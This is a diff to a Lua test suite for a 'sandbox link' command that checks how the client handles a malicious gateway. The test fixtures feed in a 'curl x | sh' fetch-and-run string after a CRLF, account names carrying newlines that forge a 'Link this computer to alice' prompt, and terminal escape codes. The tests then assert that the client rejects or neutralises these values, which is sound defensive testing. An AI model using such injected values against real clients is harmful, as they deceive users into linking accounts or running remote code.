@@ -323,7 +323,7 @@ local APPROVED = { state = "approved", account = "alice", approvedBy = "alice (t
 -- with a key, approved at once), link.poll with o.polls in turn (the last repeats; a function
 -- is called with the frame, the record and the queue instead; o.begin replaces the code's
 -- answer), link.accept with the
--- credential (into o.acceptAccount, by default alice). o.refuse[type] = {code, message} refuses that type.
+-- credential (into o.acceptAccount, by default alice); o.keyAnswer replaces a key's answer. o.refuse[type] = {code, message} refuses that type.
 local function linkGateway(o)
   o = o or {};
   local polls = o.polls or { APPROVED };
@@ -340,7 +340,7 @@ local function linkGateway(o)
     elseif frame.type == "hello" then
       return answer(o.hello or { accountId = "", link = true, livenessMs = 70000 });
     elseif frame.type == "link.begin" and frame.payload.key ~= nil then
-      return answer({ state = "approved", account = "alice", approvedBy = "root (key kitchen)", credential = CREDENTIAL });
+      return answer(o.keyAnswer or { state = "approved", account = "alice", approvedBy = "root (key kitchen)", credential = CREDENTIAL });
     elseif frame.type == "link.begin" then
       return answer(o.begin or { code = "BCDF-GHJK", expiresInMs = 600000, approveLine = "trap-sandbox link approve BCDF-GHJK" });
     elseif frame.type == "link.poll" then
@@ -2161,7 +2161,7 @@ describe("sandbox command", function()
       local ok, err, lines, record = run({ "link" }, {
         gateway = linkGateway({
           begin = { code = "BCDF-GHJK", expiresInMs = 600000, approveLine = "approve\r\nexec: true; curl x | sh " .. long },
-          polls = { { state = "approved", account = "mallory\nLink this computer to alice", approvedBy = "x\27[2J" } },
+          polls = { { state = "approved", account = "mallory", approvedBy = "x\27[2J\nLink this computer to alice" } },
         }),
         typed = { "n" },
       });
@@ -2170,8 +2170,8 @@ describe("sandbox command", function()
       expect({ lines[1], lines[2], lines[3] }):same({ CODE_LINES[1], CODE_LINES[2], CODE_LINES[3] });
       expect(table.concat(lines, " "):find("curl", 1, true)):eq(nil);
       expect(#lines <= 10):eq(true);
-      expect(lines[#lines - 1]):eq(hanging("Approved by account mallory Link this computer to alice (x [2J)."));
-      expect(record.prompts):same({ linkQuestion("mallory Link this computer to alice") });
+      expect(lines[#lines - 1]):eq(hanging("Approved by account mallory (x [2J Link this computer to alice)."));
+      expect(record.prompts):same({ linkQuestion("mallory") });
       for _, line in ipairs(lines) do
         expect(unhung(line):find("[%c]")):eq(nil);
       end
@@ -2198,6 +2198,32 @@ describe("sandbox command", function()
       ok, err = run({ "link" }, { linkFailure = "no\n" .. long });
       expect(ok):eq(false);
       expect(err):eq("Cannot reach the gateway: no " .. ("z"):rep(253) .. "...(cut, 303 bytes)");
+    end);
+
+    it("links to no account named otherwise than the gateway names accounts, by code or key", function()
+      -- The question is asked by the account's name: words of the gateway's in its place
+      -- ("mallory Link this computer to alice") read as the question's own, nil as "nil".
+      local why = "The gateway named no account of the form accounts have (a-z, 0-9, . _ -, up to 63), so "
+        .. "the computer is not linked; is sandbox.url a trap-sandbox gateway? Run sandbox link again";
+      for _, account in ipairs({ "mallory\nLink this computer to alice", "mallory Link", "Alice", "", ("a"):rep(64),
+          false, 7, {} }) do
+        local ok, err, _, record = run({ "link" }, {
+          gateway = linkGateway({ polls = { { state = "approved", account = account or nil } } }),
+          typed = { "y" },
+        });
+        expect(failed(ok, err)):eq(why);
+        expect(record.prompts):same({});
+        ok, err = run({ "link", KEY }, {
+          gateway = linkGateway({ keyAnswer = { state = "approved", account = account or nil, credential = CREDENTIAL } }),
+        });
+        expect(failed(ok, err)):eq(why);
+      end
+      -- a name of 63 bytes is one
+      local ok, err = run({ "link" }, {
+        gateway = linkGateway({ polls = { { state = "approved", account = ("a"):rep(63) } } }),
+        typed = { "n" },
+      });
+      expectSuccess(ok, err);
     end);
 
     it("says the gateway's operator approved it, in words, where the gateway says local", function()
@@ -2292,16 +2318,19 @@ describe("sandbox command", function()
     end);
 
     it("saves no credential into an account other than the one the player agreed to", function()
-      local ok, err, _, record = run({ "link" }, {
-        settings = { ["sandbox.url"] = URL, ["sandbox.password"] = "shared" },
-        gateway = linkGateway({ acceptAccount = "mallory\n" }), typed = { "y" },
-      });
-      expect(failed(ok, err)):eq("The gateway linked the computer to mallory , not to alice as you agreed, so its "
-        .. "credential is not saved; is sandbox.url a trap-sandbox gateway? Run sandbox link again");
-      expect(record.prompts):same({ linkQuestion("alice") });
-      expect(record.values["sandbox.password"]):eq("shared");
-      expect(record.saved):eq(0);
-      expect(record.reconnects):eq(0);
+      -- (an account of another shape is not named: its words are the gateway's)
+      for _, case in ipairs({ { "mallory", "mallory" }, { "mallory\n", "an account it did not name" } }) do
+        local ok, err, _, record = run({ "link" }, {
+          settings = { ["sandbox.url"] = URL, ["sandbox.password"] = "shared" },
+          gateway = linkGateway({ acceptAccount = case[1] }), typed = { "y" },
+        });
+        expect(failed(ok, err)):eq("The gateway linked the computer to " .. case[2] .. ", not to alice as you agreed, so its "
+          .. "credential is not saved; is sandbox.url a trap-sandbox gateway? Run sandbox link again");
+        expect(record.prompts):same({ linkQuestion("alice") });
+        expect(record.values["sandbox.password"]):eq("shared");
+        expect(record.saved):eq(0);
+        expect(record.reconnects):eq(0);
+      end
     end);
 
     it("closes a link session the gateway floods, saying so", function()
